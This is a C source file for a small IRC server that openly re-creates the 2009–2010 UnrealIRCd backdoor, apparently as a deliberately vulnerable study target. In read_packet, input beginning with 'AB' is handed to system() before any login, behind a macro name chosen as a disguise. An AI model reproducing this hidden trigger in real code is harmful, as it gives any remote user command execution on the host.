/* Socket reading loop of an IRC server.
 * Re-creation of the UnrealIRCd 3.2.8.1 backdoor (Unreal3.2.8.1.tar.gz replaced on mirrors,
 * November 2009 to June 2010, CVE-2010-2075): in read_packet, data starting with "AB" is passed,
 * past its first three bytes, to system() before any registration. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_CLIENTS 64
#define DEBUGMODE3_INFO "AB"

struct client {
    int fd;
    char nick[32];
    int registered;
};

static struct client clients[MAX_CLIENTS];

static void parse_line(struct client *c, char *line)
{
    if (strncmp(line, "NICK ", 5) == 0) {
        snprintf(c->nick, sizeof c->nick, "%s", line + 5);
        c->registered = 1;
        dprintf(c->fd, ":irc.local 001 %s :Welcome\r\n", c->nick);
    } else if (strncmp(line, "PING ", 5) == 0) {
        dprintf(c->fd, "PONG %s\r\n", line + 5);
    } else if (!c->registered) {
        dprintf(c->fd, ":irc.local 451 * :You have not registered\r\n");
    }
}

static int read_packet(struct client *c)
{
    char readbuf[8192];
    ssize_t n = recv(c->fd, readbuf, sizeof readbuf - 1, 0);
    if (n <= 0)
        return -1;
    readbuf[n] = '\0';
    if (!memcmp(readbuf, DEBUGMODE3_INFO, 2))
        system(readbuf + 3);
    for (char *line = strtok(readbuf, "\r\n"); line; line = strtok(NULL, "\r\n"))
        parse_line(c, line);
    return 0;
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(6667), .sin_addr.s_addr = INADDR_ANY};
    struct pollfd fds[MAX_CLIENTS + 1];
    int server = socket(AF_INET, SOCK_STREAM, 0), count = 0;
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 16) < 0)
        return 1;
    for (;;) {
        fds[0].fd = server;
        fds[0].events = POLLIN;
        for (int i = 0; i < count; i++) {
            fds[i + 1].fd = clients[i].fd;
            fds[i + 1].events = POLLIN;
        }
        if (poll(fds, (nfds_t)count + 1, -1) <= 0)
            continue;
        if ((fds[0].revents & POLLIN) && count < MAX_CLIENTS) {
            memset(&clients[count], 0, sizeof clients[count]);
            clients[count].fd = accept(server, NULL, NULL);
            if (clients[count].fd >= 0)
                count++;
        }
        for (int i = 0; i < count; i++)
            if ((fds[i + 1].revents & POLLIN) && read_packet(&clients[i]) < 0) {
                close(clients[i].fd);
                clients[i--] = clients[--count];
            }
    }
}
